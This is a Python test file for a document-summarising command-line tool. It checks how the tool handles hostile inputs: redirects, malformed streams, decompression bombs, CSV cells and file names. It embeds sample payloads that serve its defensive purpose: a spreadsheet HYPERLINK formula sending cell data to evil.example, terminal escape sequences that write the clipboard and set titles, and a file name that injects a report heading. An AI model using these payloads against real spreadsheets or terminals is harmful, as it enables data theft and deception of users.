"""Hostile files, hostile servers, odd paths (issue 20): the real program, end to end.

Nothing here touches the real /dev; FIFOs, sockets and symlinks live in temporary folders.
"""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.conftest import API_KEY
from tests.support.cli import LONGDOC, environment, longdoc, review_grid
from tests.support.raw_server import RawServer, content, sse
from tests.support.sglang_server import FakeSGLang

ROOT = Path(__file__).resolve().parents[2]


def chats(server: FakeSGLang) -> int:
    return sum(r.path.endswith("/chat/completions") for r in server.requests)


def one_error(stderr: str) -> str:
    """The single ``Error:`` line of a failed command (and no traceback)."""
    assert "Traceback" not in stderr, stderr
    errors = [line for line in stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1, stderr
    return errors[0]


def docs(folder: Path, count: int = 2) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for n in range(count):
        (folder / f"doc-{n}.md").write_text(f"# Doc {n}\n\nThe fee for item {n} is {n + 7} EUR.\n")
    return folder


# --- item 1: --out --------------------------------------------------------------------------


def test_a_bad_out_is_refused_before_anything_is_asked(
    sglang: FakeSGLang, home: Path, tmp_path: Path
) -> None:
    folder = docs(tmp_path / "docs")
    for out in (tmp_path / "missing" / "r.md", tmp_path):
        done = longdoc(
            "summarize", str(folder), "--out", str(out), home=home, server=sglang, api_key=API_KEY
        )
        assert done.returncode == 2, done.stderr
        assert str(out) in one_error(done.stderr)
    assert chats(sglang) == 0


def test_out_through_a_symlink_and_into_a_fifo(
    sglang: FakeSGLang, home: Path, tmp_path: Path
) -> None:
    folder = docs(tmp_path / "docs")
    target = tmp_path / "target.md"
    link = tmp_path / "link.md"
    link.symlink_to(target)
    done = longdoc(
        "summarize", str(folder), "--out", str(link), home=home, server=sglang, api_key=API_KEY
    )
    assert done.returncode == 0, done.stderr
    assert link.is_symlink() and target.read_text().startswith("# Summaries")
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE)
    done = longdoc(
        "summarize", str(folder), "--out", str(fifo), home=home, server=sglang, api_key=API_KEY
    )
    out, _ = reader.communicate(timeout=60)
    assert done.returncode == 0, done.stderr
    assert out.startswith(b"# Summaries") and fifo.exists() and not fifo.is_file()


# --- item 4: CSV formulas -------------------------------------------------------------------


def test_review_grid_cells_never_start_a_formula(
    sglang: FakeSGLang, home: Path, tmp_path: Path
) -> None:
    folder = docs(tmp_path / "docs", 1)
    sglang.behaviour.update(answer_text='=HYPERLINK("http://evil.example/?"&A1,"click")')
    questions = "What is the fee?\n=1+1 is a question too\n"
    rows = review_grid(folder, questions, home=home, server=sglang, api_key=API_KEY)
    assert rows[0][-1] == "'=1+1 is a question too"
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[1][5].startswith("'=HYPERLINK(")


# --- item 8: redirects ----------------------------------------------------------------------


class _Recorder(ThreadingHTTPServer):
    """A loopback HTTP server: records every request; answers models, redirects ``redirect``."""

    daemon_threads = True

    def __init__(self, redirect: set[str] | None, location: str = "") -> None:
        self.redirect = redirect  # None: every path
        self.location = location
        self.seen: list[tuple[str, str, dict[str, str]]] = []
        super().__init__(("127.0.0.1", 0), _RecorderHandler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _RecorderHandler(BaseHTTPRequestHandler):
    server: _Recorder

    def log_message(self, *args: object) -> None:
        pass

    def _handle(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        if length:
            self.rfile.read(length)
        self.server.seen.append((self.command, self.path, dict(self.headers)))
        redirect = self.server.redirect
        if redirect is None or self.path.split("?")[0] in redirect:
            self.send_response(307 if self.command == "POST" else 302)
            self.send_header("Location", self.server.location + self.path)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if self.path.startswith("/v1/models"):
            body = json.dumps({"object": "list", "data": [
                {"id": "m", "object": "model", "max_model_len": 262144}]}).encode()  # fmt: skip
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
        else:
            body = b'{"error": "not here"}'
            self.send_response(404)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = _handle


REDIRECTED = [
    ("ask", {"/v1/models"}),
    ("ask", {"/v1/chat/completions"}),
    ("ask", {"/server_info"}),
    ("warm", {"/v1/completions", "/generate"}),
    ("summarize", {"/v1/chat/completions"}),
    ("doctor", None),
    ("selftest", None),
]


@pytest.mark.parametrize(("command", "paths"), REDIRECTED)
def test_no_request_follows_a_redirect(
    home: Path, tmp_path: Path, command: str, paths: set[str] | None
) -> None:
    elsewhere = _Recorder(redirect=set())
    server = _Recorder(paths, location=elsewhere.url.replace("127.0.0.1", "localhost"))
    doc = docs(tmp_path / "docs", 1) / "doc-0.md"
    args = {
        "ask": ["ask", str(doc), "What is the fee?"],
        "warm": ["warm", str(doc)],
        "summarize": ["summarize", str(doc)],
        "doctor": ["doctor"],
        "selftest": ["server", "selftest", "--lengths", "8k"],
    }[command]
    full = {**os.environ, "LONGDOC_HOME": str(home), "PYTHONPATH": str(ROOT)}
    done = subprocess.run(
        [sys.executable, "-m", "desktop.cli.main", *args, "--endpoint", server.url,
         "--api-key", "secret-key"],
        capture_output=True, text=True, env=full, timeout=300, check=False,
    )  # fmt: skip
    try:
        assert elsewhere.seen == [], elsewhere.seen
        if command == "doctor":
            assert done.returncode == 7, done.stderr + done.stdout
            assert "redirect" in done.stdout and server.url in done.stdout
            return
        assert server.seen, done.stderr
        if command == "summarize":
            assert done.returncode == 6, done.stderr
            assert "redirect" in done.stdout + done.stderr
            return
        assert done.returncode == 4, done.stderr
        line = one_error(done.stderr)
        assert "redirect" in line and server.url in line
    finally:
        for each in (server, elsewhere):
            each.shutdown()
            each.server_close()


def test_model_info_and_the_server_manager_probes_follow_no_redirect() -> None:
    from desktop.answering.scans import reads_images
    from desktop.errors import ServerRedirected
    from server_manager import probe

    elsewhere = _Recorder(redirect=set())
    server = _Recorder(None, location=elsewhere.url)
    try:
        with pytest.raises(ServerRedirected, match="redirect"):
            reads_images(server.url + "/v1", "secret-key")
        assert probe.get(server.url + "/v1/models", "secret-key").status != 200
        assert not probe.lists_model(server.url, "secret-key", "")
        assert probe.health(server.url) != "ok"
        assert len(server.seen) == 4 and elsewhere.seen == []
    finally:
        for each in (server, elsewhere):
            each.shutdown()
            each.server_close()


# --- item 5: malformed streams; item 10: nonsense context -----------------------------------


def _stored(home: Path) -> list[sqlite3.Row]:
    conn = sqlite3.connect(home / "longdoc.db")
    conn.row_factory = sqlite3.Row
    try:
        return conn.execute("SELECT * FROM answers ORDER BY id").fetchall()
    finally:
        conn.close()


def _ask(home: Path, server: RawServer, doc: Path) -> subprocess.CompletedProcess[str]:
    full = {**os.environ, "LONGDOC_HOME": str(home), "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-m", "desktop.cli.main", "ask", str(doc), "What is the fee?",
         "--endpoint", server.url, "--api-key", "k"],
        capture_output=True, text=True, env=full, timeout=300, check=False,
    )  # fmt: skip


@pytest.mark.parametrize(
    "bad",
    [b"data: {not json at all\n\n", sse(b'{"choices": [{"delta": {"content": "\xff\xfe"}}]}'),
     sse({"choices": "not a list"}), sse({"choices": [{"delta": {"content": 7}}]})],
    ids=["json", "utf8", "shape", "content"],
)  # fmt: skip
def test_a_malformed_stream_is_one_error_and_keeps_the_partial_answer(
    home: Path, tmp_path: Path, bad: bytes
) -> None:
    doc = docs(tmp_path / "docs", 1) / "doc-0.md"
    with RawServer([content("Partial "), bad, content("more", "stop")]) as server:
        done = _ask(home, server, doc)
    assert done.returncode == 5, done.stderr
    assert "malformed" in one_error(done.stderr)
    (row,) = _stored(home)
    assert row["status"] == "incomplete" and row["answer"] == "Partial "


def test_absurd_usage_is_ignored_and_the_answer_stored_complete(home: Path, tmp_path: Path) -> None:
    doc = docs(tmp_path / "docs", 1) / "doc-0.md"
    usage = sse({"id": "x", "object": "chat.completion.chunk", "model": "m", "choices": [],
                 "usage": {"prompt_tokens": 10**19, "completion_tokens": 3,
                           "total_tokens": 10**19}})  # fmt: skip
    with RawServer([content("The fee is 7 EUR."), content("", "stop"), usage]) as server:
        done = _ask(home, server, doc)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr and "10000000000000000000" not in done.stderr
    (row,) = _stored(home)
    assert row["status"] == "complete" and row["answer"] == "The fee is 7 EUR."
    assert row["prompt_tokens"] is None


@pytest.mark.parametrize("context", [-5, 0])
def test_a_nonsensical_context_is_the_servers_problem(
    home: Path, tmp_path: Path, context: int
) -> None:
    doc = docs(tmp_path / "docs", 1) / "doc-0.md"
    with RawServer([content("x", "stop")], context_length=context) as server:
        done = _ask(home, server, doc)
        assert server.chats == 0
    assert done.returncode == 5, done.stderr
    line = one_error(done.stderr)
    assert str(context) in line and "context length" in line


# --- items 6 and 7: hostile files in a batch and in a folder --------------------------------


def test_hostile_files_fail_alone_in_a_batch_and_in_ingest(
    sglang: FakeSGLang, home: Path, tmp_path: Path
) -> None:
    from tests.support import hostile_files as hostile

    folder = docs(tmp_path / "deal", 1)
    hostile.transcript_with_absurd_hour(folder / "meeting.vtt")
    hostile.sparse_text(folder / "server.log", 20 << 30)
    hostile.docx_deflate_bomb(folder / "contract.docx")
    hostile.docx_doctype_utf16(folder / "annex.docx")
    out = tmp_path / "report.md"
    done = longdoc(
        "summarize", str(folder), "--out", str(out), home=home, server=sglang, api_key=API_KEY
    )
    assert done.returncode == 6, done.stderr
    assert "Traceback" not in done.stderr
    report = out.read_text()
    failed = report.split("## Failed", 1)[1]
    for name in ("server.log", "contract.docx", "annex.docx"):
        assert name in failed
    assert chats(sglang) == 2  # doc-0.md and the meeting (its absurd cue skipped)
    ingest = longdoc("ingest", str(folder), home=home)
    assert ingest.returncode == 3, ingest.stderr
    assert "Traceback" not in ingest.stderr
    assert len([ln for ln in ingest.stderr.splitlines() if ln.startswith("Error:")]) == 3
    assert "doc-0.md" in ingest.stdout and "meeting.vtt" in ingest.stdout


# --- item 3: terminal escapes ----------------------------------------------------------------

EVIL = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]8;;http://evil.example/\x07link\x1b]8;;\x07\u202e\x9b31m"


def _raw_bytes(text: str) -> list[str]:
    """The raw controls a terminal would act on, found in ``text``."""
    return [ch for ch in text if ch in "\x1b\x07\x9b\u202e"]


def test_terminal_escapes_from_the_server_are_shown_not_obeyed(home: Path, tmp_path: Path) -> None:
    doc = docs(tmp_path / "docs", 1) / "doc-0.md"
    reasoning = sse({"choices": [{"index": 0, "delta": {"reasoning_content": "Think " + EVIL}}]})
    chunks = [reasoning, content("Answer " + EVIL), content("", "stop")]
    with RawServer(chunks, model="m\x1b]0;owned\x07") as server:
        first = _ask(home, server, doc)
        again = _ask(home, server, doc)  # from the cache: the stored answer, escaped too
    for done in (first, again):
        assert done.returncode == 0, done.stderr
        assert _raw_bytes(done.stdout + done.stderr) == []
        assert "Answer \\x1b]52;c;ZXZpbA==\\x07" in done.stdout
    assert "\\x1b]52" in first.stderr  # the reasoning, shown escaped
    assert "from cache" in again.stderr
    with RawServer(chunks) as server:  # --json stays valid JSON, its data intact
        full = {**os.environ, "LONGDOC_HOME": str(home), "PYTHONPATH": str(ROOT)}
        done = subprocess.run(
            [sys.executable, "-m", "desktop.cli.main", "ask", str(doc), "Another question?",
             "--json", "--endpoint", server.url, "--api-key", "k"],
            capture_output=True, text=True, env=full, timeout=300, check=False,
        )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert _raw_bytes(done.stdout) == []
    assert json.loads(done.stdout)["answer"] == "Answer " + EVIL


def test_a_file_name_cannot_inject_a_heading_into_the_report(
    sglang: FakeSGLang, home: Path, tmp_path: Path
) -> None:
    folder = docs(tmp_path / "docs", 1)
    (folder / "evil\n## Injected heading\n.md").write_text("# Evil\n\nThe fee is 1 EUR.\n")
    (folder / "doc-0.md").write_text("# Doc\x1b]0;title\x07\n\nThe fee is 2 EUR.\n")
    out = tmp_path / "report.md"
    done = longdoc(
        "summarize", str(folder), "--out", str(out), home=home, server=sglang, api_key=API_KEY
    )
    assert done.returncode == 0, done.stderr
    report = out.read_text()
    assert not [ln for ln in report.splitlines() if ln.startswith("## Injected")]
    assert "evil\\n## Injected heading\\n.md" in report
    assert _raw_bytes(report + done.stderr) == []


# --- item 10: reset-db while in use, a read-only data directory -------------------------------


def test_reset_db_refuses_while_another_process_has_the_database_open(
    home: Path, tmp_path: Path
) -> None:
    (tmp_path / "a.md").write_text("# A\n\nText.\n")
    assert longdoc("ingest", str(tmp_path / "a.md"), home=home).returncode == 0
    holder = subprocess.Popen(
        [sys.executable, "-c", "import sqlite3, sys\n"
         f"c = sqlite3.connect({str(home / 'longdoc.db')!r}); c.execute('SELECT 1').fetchall()\n"
         "print('open', flush=True); sys.stdin.readline()"],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "open"
        done = longdoc("reset-db", "--force", home=home)
        assert done.returncode == 1, done.stderr
        assert f"process {holder.pid}" in one_error(done.stderr)
        assert (home / "longdoc.db").exists()
        assert not list(home.glob("longdoc.db.damaged-*"))
    finally:
        holder.communicate("\n", timeout=30)
    assert longdoc("reset-db", "--force", home=home).returncode == 0


READ_ONLY_SCRIPT = r"""
set -e
mount --make-rprivate /
mount --bind {home} {home}
mount -o remount,ro,bind {home}
cd {root}
export LONGDOC_HOME={home} PYTHONPATH={root}
{python} -m desktop.cli.main ingest {doc} >{out}/ingest.out 2>{out}/ingest.err \
    || echo "ingest=$?" >> {out}/codes
{python} -m desktop.cli.main doctor >{out}/doctor.out 2>&1 || echo "doctor=$?" >> {out}/codes
"""


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("unshare"), reason="needs root")
def test_a_read_only_data_directory_is_named_with_its_fix(home: Path, tmp_path: Path) -> None:
    doc = tmp_path / "a.md"
    doc.write_text("# A\n\nText.\n")
    assert longdoc("ingest", str(doc), home=home).returncode == 0  # a sound database exists
    out = tmp_path / "out"
    out.mkdir()
    script = READ_ONLY_SCRIPT.format(home=home, root=ROOT, python=sys.executable, doc=doc, out=out)
    done = subprocess.run(["unshare", "--mount", "sh", "-c", script], capture_output=True,
                          text=True, timeout=300, check=False)  # fmt: skip
    if done.returncode != 0:
        pytest.skip(f"no private mount namespace here: {done.stderr}")
    codes = (out / "codes").read_text()
    assert "ingest=1" in codes and "doctor=7" in codes
    line = one_error((out / "ingest.err").read_text())
    assert "read-only file system" in line and "LONGDOC_HOME" in line
    doctor = (out / "doctor.out").read_text()
    assert "read-only file system" in doctor
    assert "damaged" not in doctor


def test_two_batches_over_one_folder_never_ask_a_document_twice(
    sglang: FakeSGLang, home: Path, tmp_path: Path
) -> None:
    folder = docs(tmp_path / "docs", 4)
    sglang.behaviour.update(token_delay_s=0.02)  # each answer takes a while: the runs overlap
    args = ("summarize", str(folder), "--concurrency", "2", "--out")
    env = environment(home)
    command = [*LONGDOC, *args]
    extra = ["--endpoint", sglang.url, "--api-key", API_KEY]
    first = subprocess.Popen([*command, str(tmp_path / "a.md"), *extra], env=env, cwd=ROOT,
                             stderr=subprocess.PIPE, text=True)  # fmt: skip
    while chats(sglang) == 0 and first.poll() is None:
        threading.Event().wait(0.02)  # the first run is asking: start the second now
    second = subprocess.Popen([*command, str(tmp_path / "b.md"), *extra], env=env, cwd=ROOT,
                              stderr=subprocess.PIPE, text=True)  # fmt: skip
    assert first.wait(300) == 0 and second.wait(300) == 0
    assert first.stderr is not None and second.stderr is not None
    first.stderr.close()
    second.stderr.close()
    asked = [r.body for r in sglang.requests if r.path.endswith("/chat/completions")]
    assert len(asked) == 4  # each document once, by one run or the other
    assert (tmp_path / "b.md").read_text().count("answered in an earlier run") >= 1
